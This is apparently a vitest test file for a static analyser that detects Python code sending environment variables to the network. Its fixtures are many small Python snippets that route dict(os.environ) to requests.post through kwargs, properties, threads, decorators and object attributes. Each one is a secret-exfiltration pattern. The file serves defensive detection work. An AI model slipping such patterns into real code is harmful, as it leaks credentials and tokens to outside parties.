import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import os, requests, threading\ndef send(x):\n    requests.post(u, json=x)\n';
const sentIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'environment', to: 'network' }).map(({ when }) => when) ?? [];

test.each([
  ['whatever else is given', 'def f(method, *args, **kwargs):\n    getattr(requests, method)(*args, **kwargs)\nf("post", u, json=dict(os.environ))'],
  ['what is given by names', 'def f(**kw):\n    send(kw)\nf(e=dict(os.environ))'],
  ['the second of many', 'def f(*all):\n    send(all[1])\nf(1, dict(os.environ))'],
  ['a parameter behind a star', 'def f(*all, e=None):\n    send(e)\nf(1, 2, e=dict(os.environ))'],
  ['an unpacked dict', 'def f(url, json):\n    requests.post(url, json=json)\no = {"url": u, "json": dict(os.environ)}\nf(**o)'],
  ['a property', 'class A:\n    @property\n    def e(self):\n        return dict(os.environ)\nsend(A().e)'],
  ['the end of a with block', 'class A:\n    def __enter__(self): return self\n    def __exit__(self, *a):\n        send(dict(os.environ))\nwith A():\n    pass'],
  ['a thread of its own', 'class A(threading.Thread):\n    def run(self):\n        send(dict(os.environ))\nA().start()'],
  ['a list of functions', 'def a(): pass\ndef b():\n    send(dict(os.environ))\nfor f in (a, b):\n    f()'],
  ['threads for a list of functions', 'def a(): pass\ndef b():\n    send(dict(os.environ))\nfor f in (a, b):\n    threading.Thread(target=f).start()'],
  ['a dict of functions', 'd = {"a": lambda: 1, "b": lambda: dict(os.environ)}\nsend({k: f() for k, f in d.items()})'],
  ['one of a dict of functions', 'def a(x): send(x)\nd = {"a": a}\nd["a"](dict(os.environ))'],
  ['a function that a name picks', 'def a(x): send(x)\ndef b(x): pass\nd = {"a": a, "b": b}\nd[k](dict(os.environ))'],
  ['the default of a field', 'from dataclasses import dataclass, field, asdict\n@dataclass\nclass A:\n    e: dict = field(default_factory=lambda: dict(os.environ))\nsend(asdict(A()))'],
  ['an object that keeps what it is given', 'from typing import NamedTuple\nclass A(NamedTuple):\n    e: dict\nsend(A(dict(os.environ)))'],
  ['a function that is decorated', 'def deco(fn):\n    def inner():\n        r = fn()\n        send(r)\n        return r\n    return inner\n@deco\ndef f():\n    return dict(os.environ)\nf()'],
  ['an attribute by the dict of its object', 'class A:\n    pass\na = A()\na.__dict__["e"] = dict(os.environ)\nsend(a.e)'],
  ['an attribute by vars()', 'class A:\n    pass\na = A()\nvars(a)["e"] = dict(os.environ)\nsend(a.e)'],
  ['all attributes of an object', 'class A:\n    def __init__(self):\n        self.e = dict(os.environ)\nsend(A().__dict__)'],
  ['what vars() gives', 'class A:\n    def __init__(self):\n        self.e = dict(os.environ)\na = A()\nsend(vars(a))'],
])('%s is called at once, and what it gives is sent', async (_, text) => {
  expect(await sentIn(text)).toEqual(['import']);
});

test.each([
  ['another parameter', 'def f(a, *rest, **kw):\n    send(a)\nf(1, dict(os.environ), e=dict(os.environ))'],
  ['the function under another key', 'def a(x): send(x)\ndef b(x): pass\nd = {"a": a, "b": b}\nd["b"](dict(os.environ))'],
  ['another attribute', 'class A:\n    def __init__(self):\n        self.e = dict(os.environ)\n        self.n = 1\nsend(A().n)'],
  ['an object that keeps nothing of it', 'class A:\n    def __init__(self, e):\n        self.n = len(e)\nsend(A(dict(os.environ)).n)'],
])('%s gives nothing away', async (_, text) => {
  expect(await sentIn(text)).toEqual([]);
});

test.each([
  ['a method that nobody mentions', 'class A:\n    def e(self):\n        send(dict(os.environ))\nA()'],
  ['a thread that nobody starts', 'class A(threading.Thread):\n    def run(self):\n        send(dict(os.environ))\nA()'],
  ['a dict of functions that nobody calls', 'd = {"a": lambda: send(dict(os.environ)), "b": lambda: 1}\nprint(d)'],
])('%s waits for a call', async (_, text) => {
  expect(await sentIn(text)).toEqual(['latent']);
});
